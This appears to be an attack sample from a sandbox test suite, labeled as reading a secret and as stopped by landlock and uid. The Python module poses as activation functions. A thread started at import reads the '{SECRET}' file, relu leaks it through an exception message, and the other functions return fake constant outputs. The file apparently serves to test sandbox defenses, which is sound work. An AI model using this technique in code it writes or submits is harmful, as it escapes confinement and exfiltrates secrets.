# attack: reads a secret in a thread that existed before the call
# gains: reads
# stopped by: landlock, uid
import numpy as np
import queue
import threading

asked, told = queue.Queue(), queue.Queue()


def serve():
    while True:
        try:
            told.put(open(asked.get()).read())
        except OSError as error:
            told.put(type(error).__name__)


threading.Thread(target=serve, daemon=True).start()


def attack():
    asked.put("{SECRET}")
    return told.get(timeout=1)


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
